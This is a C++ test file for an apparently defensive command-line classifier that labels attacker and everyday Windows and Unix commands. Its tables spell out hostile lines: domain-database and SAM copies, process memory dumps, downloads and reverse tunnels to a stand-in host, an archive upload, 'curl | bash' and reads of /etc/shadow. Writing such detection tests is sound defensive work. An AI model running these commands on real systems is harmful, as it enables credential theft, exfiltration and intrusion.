// What lines mean: the advisories' commands, everyday lines beside them, arguments, renamed programs, shapes.

#include <string>
#include <tuple>
#include <vector>

#include <gtest/gtest.h>

#include "command/reading_testing.h"
#include "command/usage.h"

namespace landwarden::command {
namespace {

struct Meant {
  std::string_view line, action, role, value;
};

TEST(Actions, OfTheAdvisoriesLines) {
  const Meant table[] = {
      {R"(wmic process call create "ntdsutil \"ac i ntds\" ifm \"create full C:\Windows\Temp\pro\" q q")",
       "ntds_copy", "to", R"(C:\Windows\Temp\pro)"},
      {R"(ntdsutil ac in ntds ifm cr fu C:\x q q)", "ntds_copy", "to", R"(C:\x)"},
      {R"(ntdsutil "activate instance ntds" "ifm" "create sysvol full C:\Program Files\x" q q)", "ntds_copy",
       "to", R"(C:\Program Files\x)"},
      {R"(ntdsutil snapshot "ac i ntds" create quit quit)", "shadow_copy_create", "", ""},
      {"vssadmin create shadow /for=C:", "shadow_copy_create", "from", "C:"},
      {"netsh interface portproxy add v4tov4 listenaddress=0.0.0.0 listenport=9999 connectaddress=10.1.2.3 "
       "connectport=8443 protocol=tcp",
       "port_proxy_add", "to", "10.1.2.3"},
      {"netsh int portp a v4 9999 10.1.2.3 8443", "port_proxy_add", "to", "10.1.2.3"},
      {R"(cmd.exe /Q /c whoami 1> \\127.0.0.1\ADMIN$\__17095 2>&1)", "output_to_share", "to",
       R"(\\127.0.0.1\ADMIN$\__17095)"},
      {R"(7z.exe a -pPa55 c:\windows\temp\x.7z c:\plans)", "archive_create_protected", "secret", "Pa55"},
      {R"(reg save HKEY_LOCAL_MACHINE\sam ss.dat)", "hive_save", "what", R"(HKLM\sam)"},
      {R"(rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 708 C:\l.dmp full)", "process_memory_dump",
       "what", "708"},
      {R"(psexec \\FS02 -u corp\adm -p Secret1 cmd /c whoami)", "remote_command_run", "account",
       R"(corp\adm)"},
      {"powershell Get-EventLog -Lo security -inst 4624", "logon_events_read", "what", "security"},
      {"net group \"Domain Admins\" /dom", "group_list", "name", "Domain Admins"},
      {"certutil -urlcache -split -f http://203.0.113.9/a.exe c:\\a.exe", "download", "to", R"(c:\a.exe)"},
      {"sc \\\\FS02 create upd binPath= \"cmd /c whoami\"", "service_create", "host", "FS02"},
      {"schtasks /create /s FS02 /tn upd /tr \"cmd /c whoami\" /sc onstart", "task_create", "host", "FS02"},
      {"ssh -R 9999:127.0.0.1:3389 op7@203.0.113.9", "tunnel_open", "host", "203.0.113.9"},
  };
  for (const Meant& meant : table) {
    const Reading reading = read(meant.line);
    EXPECT_EQ(reading.main, meant.action) << meant.line;
    if (meant.role.empty()) continue;
    EXPECT_EQ(reading.argument(meant.role), meant.value) << meant.line;
  }
}

/// What is done where and as whom, of tools that write it each in its own way.
TEST(Actions, SayTheHostsAndAccountsTheyGoTo) {
  const std::tuple<std::string_view, std::string_view, std::string_view, std::string_view> table[] = {
      // line, action, host, account
      {R"(netsh -r FS02 -u corp\op7 -p Pa55 int portp a v4tov4 9999 10.1.2.3 8443)", "port_proxy_add", "FS02",
       R"(corp\op7)"},
      {R"(wmic /node:"FS02" /user:"corp\op7" /password:x process call create calc)",
       "wmi_process_create_remote", "FS02", R"(corp\op7)"},
      {R"(reg save \\FS02\HKLM\SAM s.hiv)", "hive_save", "FS02", ""},
      {R"(wevtutil epl Security c:\s.evtx /r:FS02 /u:corp\op7)", "logon_events_read", "FS02", R"(corp\op7)"},
      {R"(schtasks /create /tn x /tr calc /s FS02 /u corp\op7 /p y)", "task_create", "FS02", R"(corp\op7)"},
      {"winrs -r:http://FS02:5985 ipconfig", "remote_command_run", "FS02", ""},
      {R"(psexec @hosts.txt -c -d C:\a.exe)", "remote_command_run", "@hosts.txt", ""},
      {R"(psexec \\FS02,FS03 cmd)", "remote_command_run", "FS02 FS03", ""},
      {"ssh -D 1080 -N op7@203.0.113.9", "tunnel_open", "203.0.113.9", "op7"},
      {"plink -ssh -l root -pw x -R 9999:10.1.1.1:3389 203.0.113.9", "tunnel_open", "203.0.113.9", "root"},
      {R"(pscp -pw x c:\t\a.7z root@203.0.113.9:/tmp/)", "file_copy_remote", "203.0.113.9", "root"},
      {"scp -P 2222 root@10.1.1.1:/etc/shadow .", "file_copy_remote", "10.1.1.1", "root"},
      {"wmiexec.py corp/op7:Pa55@10.1.1.1 whoami", "remote_command_run", "10.1.1.1", "corp/op7"},
      {"secretsdump.py corp/op7@dc01.corp.example", "credential_tool_run", "dc01.corp.example", "corp/op7"},
      {R"(net use \\FS02\c$ /user:corp\op7 x)", "admin_share_use", "FS02", R"(corp\op7)"},
      {R"(copy C:\t\a.exe \\FS02\c$\a.exe)", "file_copy_remote", "FS02", ""},
      {R"(copy \\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy3\Windows\NTDS\ntds.dit c:\t)",
       "protected_file_copy", "", ""},
      {R"(powershell Enter-PSSession -ComputerName FS02 -Credential corp\op7)", "remote_command_run", "FS02",
       R"(corp\op7)"},
      {"powershell icm -cn FS02,FS03 { whoami }", "remote_command_run", "FS02 FS03", ""},
      {"dnscmd DC01 /enumrecords corp.example . /additional", "dns_zone_list", "DC01", ""},
      {"ew -s rssocks -d 203.0.113.9 -e 8888", "tunnel_open", "203.0.113.9", ""},
  };
  for (const auto& [line, action, host, account] : table) {
    const Reading reading = read(line);
    EXPECT_EQ(reading.main, action) << line;
    EXPECT_EQ(reading.all("host"), host) << line;
    EXPECT_EQ(reading.all("account"), account) << line;
  }
}

TEST(Actions, SayWhereTheyWriteTo) {
  const std::tuple<std::string_view, std::string_view, std::string_view> table[] = {
      {R"(cmd /c systeminfo > C:\Users\Public\systeminfo.dat)", "system_info",
       R"(C:\Users\Public\systeminfo.dat)"},
      {"cmd /c whoami 2>&1 > nul", "self_query", ""},
      {R"(cmd /c dir /s \\FS02\c$\Users >> c:\t\x.tmp)", "file_list_remote", R"(c:\t\x.tmp)"},
      {R"(powershell Get-EventLog security -instanceid 4624 > C:\t\user.dat)", "logon_events_read",
       R"(C:\t\user.dat)"},
      {R"(esentutl /y /vss c:\windows\ntds\ntds.dit /d c:\t\n.dit)", "protected_file_copy", R"(c:\t\n.dit)"},
      {R"(7z x a.7z -oC:\t)", "archive_extract", R"(C:\t)"},
      {R"(tar xf a.tar -C c:\t)", "archive_extract", R"(c:\t)"},
      {R"(net share x=C:\)", "share_create", ""},
      {"route print", "neighbours_list", ""},
      {"route add 10.0.0.0 mask 255.0.0.0 10.1.1.1", "network_config_change", "10.1.1.1"},
      {R"(attrib +h +s C:\x)", "file_hide", ""},
      {"sl.exe -bhpt 21,22 10.0.0.1-254", "port_scan", ""},
      {"find / -perm -4000 -type f", "setuid_list", ""},
      {"dscl . -create /Users/op7", "account_create", ""},
      {"dscl . -list /Users", "account_list", ""},
  };
  for (const auto& [line, action, to] : table) {
    const Reading reading = read(line);
    EXPECT_EQ(reading.main, action) << line;
    EXPECT_EQ(reading.all("to"), to) << line;
  }
  EXPECT_EQ(read(R"(esentutl /y /vss c:\a /d c:\b)").argument("from"), R"(c:\a)");
  EXPECT_EQ(read(R"(attrib +h +s C:\x)").argument("what"), R"(C:\x)");
  EXPECT_EQ(read(R"(psexec @hosts.txt -c -d C:\a.exe)").argument("command"), R"(C:\a.exe)");
  EXPECT_EQ(read("touch -r /bin/ls /tmp/a").argument("what"), "/tmp/a");
}

/// Signed programs that do what another was asked for; and the same programs at their own work.
TEST(Actions, OfBorrowedPrograms) {
  const std::pair<std::string_view, std::string_view> table[] = {
      {"ieexec.exe http://203.0.113.9/a.exe", "proxy_execution"},
      {R"(Mftrace.exe C:\t\a.exe)", "proxy_execution"},
      {R"(AppVLP.exe \\203.0.113.9\s\a.bat)", "proxy_execution"},
      {R"(msdeploy.exe -verb:sync -source:RunCommand -dest:runCommand="c:\temp\a.bat")", "proxy_execution"},
      {R"(squirrel.exe --update http://203.0.113.9/a)", "proxy_execution"},
      {R"(Update.exe --processStart Meterwerk.exe)", "program_start"},
      {R"(csi.exe C:\t\a.csx)", "proxy_execution"},
      {R"(cdb.exe -cf C:\t\a.wds -o notepad.exe)", "proxy_execution"},
      {R"(certoc.exe -LoadDLL C:\t\a.dll)", "code_load"},
      {R"(ConfigSecurityPolicy.exe C:\plans.zip https://203.0.113.9/u)", "upload"},
      {R"(tttracer.exe -dumpFull -attach 624)", "process_memory_dump"},
      {R"(sqldumper.exe 624 0 0x0110)", "process_memory_dump"},
      {R"(adplus.exe -hang -pn lsass.exe -o C:\t -quiet)", "process_memory_dump"},
      {R"(DumpMinitool.exe --file C:\t\l.txt --processId 624 --dumpType Full)", "process_memory_dump"},
      {R"(psr.exe /start /output C:\t\s.zip /sc 1 /gui 0)", "screen_capture"},
      {"psr.exe", ""},
      {"wuauclt.exe /detectnow", ""},
      {"AtBroker.exe", ""},
      {"winget list", ""},
      {"vim -c ':!/bin/sh'", "shell_run"},
      {"vim notes.txt", ""},
      {"vim /etc/sudoers", ""},
      {"cat /root/.aws/credentials", "credential_search"},
      {"kubectl exec -it pod -- cat /etc/shadow", "password_file_read"},
      {"script -qc /bin/bash /dev/null", "shell_run"},
      {"lwp-download http://203.0.113.9/a /tmp/a", "download"},
  };
  for (const auto& [line, action] : table) EXPECT_EQ(read(line).main, action) << line;
  EXPECT_TRUE(read("SyncAppvPublishingServer.exe \"n;(New-Object "
                   "Net.WebClient).DownloadString('http://203.0.113.9/a')|IEX\"")
                  .has("download"));
}

/// Of actions that weigh the same, what is carried says more than what carries it.
TEST(Actions, OfWhatIsCarriedSpeakForTheLine) {
  const Reading reading = read(
      R"(schtasks /create /s FS02 /tn u /tr "wmic /node:DC01 process call create \"cmd /c powershell -enc )" +
      encoded_command(R"(ntdsutil "ac i ntds" ifm "create full C:\t" q q)") + R"(\"")");
  EXPECT_EQ(reading.main, "ntds_copy");
  EXPECT_EQ(reading.argument("to"), R"(C:\t)");
  EXPECT_TRUE(reading.has("wmi_process_create_remote") && reading.has("task_create"));
  EXPECT_EQ(read(R"(rundll32 shell32.dll,ShellExec_RunDLL cmd /c whoami)").actions,
            (std::vector<std::string>{"proxy_execution", "shell_run", "self_query"}));
}

TEST(Actions, WhoseCommandsStandElsewhereAreNotResolved) {
  for (const std::string_view line :
       {R"(netsh -f C:\t\n.txt)", R"(diskshadow /s C:\t\d.txt)", R"(powershell -File C:\t\a.ps1)",
        R"(cmd /c ntdsutil < C:\t\n.txt)", "curl -s http://203.0.113.9/a.sh | bash",
        R"(mshta vbscript:Execute("x"))", R"(wscript C:\t\a.vbs)"})
    EXPECT_FALSE(read(line).unresolved.empty()) << line;
  for (const std::string_view line :
       {"netsh interface show interface", "cmd /c echo whoami | cmd", "echo aWQ= | base64 -d | bash"})
    EXPECT_TRUE(read(line).unresolved.empty()) << line << ": " << read(line).unresolved.front();
}

/// Without being told which shell read the line.
TEST(Actions, OfLinesOfAShellThatIsGuessed) {
  EXPECT_TRUE(read("echo Y2F0IC9ldGMvc2hhZG93 | base64 -d | bash").has("password_file_read"));
  EXPECT_EQ(read("for /L %i in (1,1,254) do @ping -n 1 10.0.0.%i").main, "host_probe");
  EXPECT_EQ(read("for i in a b; do cat /etc/shadow; done").main, "password_file_read");
}

TEST(Actions, OfEverydayLinesThatLookAlike) {
  const std::pair<std::string_view, std::string_view> table[] = {
      {"vssadmin list shadows", "shadow_copy_list"},
      {R"(ntdsutil "activate instance ntds" files info quit quit)", ""},
      {"netsh interface portproxy show all", "port_proxy_list"},
      {"netsh interface ip show config", "network_config_show"},
      {R"(7z.exe a D:\backup\night.7z D:\plans)", "archive_create"},
      {R"(reg save HKLM\SOFTWARE\Meterwerk D:\backup\mw.hiv)", "registry_export"},
      {"wevtutil qe Application /c:5 /f:text", "eventlog_read"},
      {"certutil -hashfile a.iso SHA256", ""},
      {"net stop Fax", "service_stop"},
      {"net use S: \\\\fs02\\plans", "share_use"},
      {"bcdedit /enum", "system_info"},
      {"msiexec /i C:\\Install\\agent.msi /qn", "installer_run"},
      {"wbadmin get versions", "backup_list"},
      {"rundll32.exe shell32.dll,Control_RunDLL inetcpl.cpl", "program_start"},
  };
  for (const auto& [line, action] : table) EXPECT_EQ(read(line).main, action) << line;
}

TEST(Actions, FollowTheMakersNameOfARenamedProgram) {
  const Reading reading = read({.line = R"(C:\ProgramData\upd.exe a -hpPa55 x.tmp c:\plans)",
                                .image = R"(C:\ProgramData\upd.exe)",
                                .original_name = "Rar.exe"});
  EXPECT_EQ(reading.main, "archive_create_protected");
  EXPECT_TRUE(reading.renamed);
  const Reading honest =
      read({.line = R"(rar a x.rar y)", .image = R"(C:\x\Rar.exe)", .original_name = "Rar.exe"});
  EXPECT_FALSE(honest.renamed);
}

TEST(Actions, OfUnknownProgramsAreNone) {
  const Reading reading = read("frobnicate /now");
  EXPECT_EQ(reading.main, "");
  EXPECT_TRUE(reading.actions.empty());
}

TEST(Shape, StaysWhenOnlyValuesChange) {
  EXPECT_EQ(
      read(R"(C:\x\MyTool.exe /job 17 "D:\a b\c.txt" 2026-03-02 {54849625-5478-4994-a5ba-3e3b0328c30d})")
          .shape,
      "mytool /job {number} {path} {date} {guid}");
  EXPECT_EQ(read(R"(net use \\fs01\plans /user:corp\a)").shape,
            read(R"(net use \\fs02\plans /user:corp\b)").shape);
  EXPECT_EQ(read(R"(7z a -pPa55 d:\x.7z d:\y)").shape, "7z a -p{secret} {path} {path}");
  EXPECT_NE(read("net user").shape, read("net group").shape);
}

TEST(Grammar, SaysWhatIsWrongAndWhere) {
  auto actions = ActionTable::parse(
      "actions:\n- id: x\n  attack: [T1000]\n  weight: 1\n  en: {title: a, use: b, abuse: c, normal: d}\n"
      "  ja: {title: a, use: b, abuse: c, normal: d}\n",
      "actions.yaml");
  ASSERT_TRUE(actions.has_value()) << actions.error().to_string();
  auto grammar = Grammar::make(std::move(*actions));
  const auto error = [&](std::string_view text) {
    const auto done = grammar->add(text, "t.yaml");
    return done ? std::string("none") : done.error().to_string();
  };
  EXPECT_EQ(error("programs: [{program: a, uses: [{usage: 'x', action: x}]}]"), "none");
  EXPECT_NE(error("programs:\n- program: b\n  uses: [{usage: 'x', action: y}]").find("t.yaml:3"),
            std::string::npos);
  EXPECT_NE(error("programs: [{program: c, uses: [{usage: '{who}'}]}]").find("unknown role"),
            std::string::npos);
  EXPECT_NE(error("programs: [{program: a}]").find("already a grammar for a"), std::string::npos);
  EXPECT_NE(error("programs: [{program: d, syntax: loud}]").find("known: windows"), std::string::npos);
  EXPECT_NE(error("programs: [{program: e, colour: red}]").find("unknown key"), std::string::npos);
  EXPECT_FALSE(ActionTable::parse("actions: [{id: x, weight: 9}]", "a").has_value());
}

TEST(Usage, IsReadPartByPart) {
  const auto parts = parse_usage(
      "create|make {what:path} [/for|f={from}] -p{secret} name={name} {command:line...}", Syntax::windows);
  ASSERT_TRUE(parts.has_value());
  ASSERT_EQ(parts->size(), 6u);
  EXPECT_EQ((*parts)[0].names, (std::vector<std::string>{"create", "make"}));
  EXPECT_TRUE((*parts)[2].optional);
  EXPECT_TRUE((*parts)[3].glued);
  EXPECT_EQ((*parts)[4].kind, UsagePart::Kind::key_value);
  EXPECT_EQ((*parts)[5].kind, UsagePart::Kind::rest);
  EXPECT_FALSE(parse_usage("[x", Syntax::windows).has_value());
  EXPECT_FALSE(parse_usage("{x:y}", Syntax::windows).has_value());
}

// Every action is given by some grammar, or nobody could ever see it.
TEST(Vocabulary, IsUsedByTheGrammars) {
  std::vector<std::string_view> unused;
  for (const Action& action : built_in_grammar().actions().all()) {
    bool used = false;
    for (const Program& program : built_in_grammar().programs()) {
      for (const Use& use : program.uses) used = used || use.action == &action;
    }
    if (!used) unused.push_back(action.id);
  }
  EXPECT_TRUE(unused.empty()) << unused.front();
}

}  // namespace
}  // namespace landwarden::command
